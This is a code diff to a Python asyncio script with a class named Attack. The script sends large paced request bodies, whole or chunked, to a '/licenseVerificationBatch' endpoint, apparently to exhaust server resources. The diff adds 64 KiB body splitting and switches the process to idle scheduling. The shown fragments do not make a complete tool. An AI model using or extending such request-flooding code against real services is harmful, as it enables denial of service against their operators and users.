@@ -24,6 +24,8 @@ DRIP = 1
 RETRY = 0.2
 # Seconds between two looks at how many connections are open.
 SAMPLE = 0.25
+# Bytes of a body in one write: what a network card's driver gives the kernel at most at once.
+PIECE = 1 << 16
 TARGET = "/licenseVerificationBatch"
 
 
@@ -149,17 +151,19 @@ class Attack:
 
     async def bodies(self, number, reader, writer):
         head = self.head(token=self.token, length=f"Content-Length: {len(self.body)}")
-        await self.paced(number, reader, writer, lambda: [head, self.body])
+        await self.paced(number, reader, writer, lambda: [head, *self.pieces()])
+
+    def pieces(self):
+        """As a network would bring them: one long write keeps a processor in the kernel, whatever the priorities."""
+        return [self.body[place:place + PIECE] for place in range(0, len(self.body), PIECE)]
 
     async def chunked(self, number, reader, writer):
         """The same without telling the length beforehand."""
         head = self.head(token=self.token, length="Transfer-Encoding: chunked")
-        cut = 1 << 16
-        pieces = [self.body[place:place + cut] for place in range(0, len(self.body), cut)]
-        chunks = [b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces]
+        chunks = [b"%x\r\n%s\r\n" % (len(piece), piece) for piece in self.pieces()]
         await self.paced(number, reader, writer, lambda: [head, *chunks, b"0\r\n\r\n"])
 
 
 if __name__ == "__main__":
-    os.nice(19)
+    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
     asyncio.run(Attack(*sys.argv[1:]).run())
